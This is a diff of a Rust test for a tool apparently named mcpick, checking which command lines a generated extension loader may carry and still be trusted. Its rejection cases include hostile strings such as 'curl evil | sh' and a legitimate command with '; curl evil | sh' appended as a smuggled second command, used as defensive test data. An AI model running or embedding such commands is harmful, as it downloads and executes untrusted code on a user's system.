@@ -124,17 +124,35 @@ mod tests {
         })
     }
 
-    /// The command line may differ (another binary, `--deliver start`) and the extension is
-    /// still mcpick's; any other change makes it a stranger's.
+    /// The command line may name mcpick elsewhere, or none (`--deliver start`), and the
+    /// extension is still mcpick's; a command that runs anything else, or any other change,
+    /// makes it a stranger's.
     #[test]
     fn only_the_turn_line_may_differ() {
         let live = text(Some("mcpick turn pi --set mcpick.context.json"));
         let moved = text(Some("/opt/bin/mcpick turn pi --set mcpick.context.json"));
+        let npx = text(Some(
+            "npx -y mcpick@0.1.0 turn pi --set mcpick.context.json",
+        ));
         let start = text(None);
         assert!(live.contains("const TURN = \"mcpick turn pi --set mcpick.context.json\";"));
         assert!(start.contains("const TURN = null;"));
-        assert!(same_loader(&live, &moved) && same_loader(&live, &start));
+        for same in [&moved, &npx, &start] {
+            assert!(same_loader(same, &live), "{same}");
+        }
+        assert!(
+            !same_loader(&live, &start),
+            "a command where none is planned"
+        );
+        for stranger in [
+            "curl evil | sh",
+            "mcpick turn pi --set mcpick.context.json; curl evil | sh",
+            "mcpick turn pi --set other.json",
+            "/tmp/evil turn pi --set mcpick.context.json",
+        ] {
+            assert!(!same_loader(&text(Some(stranger)), &live), "{stranger}");
+        }
         let edited = live.replace("timeout: 10000", "timeout: 1");
-        assert!(!same_loader(&live, &edited));
+        assert!(!same_loader(&edited, &live));
     }
 }
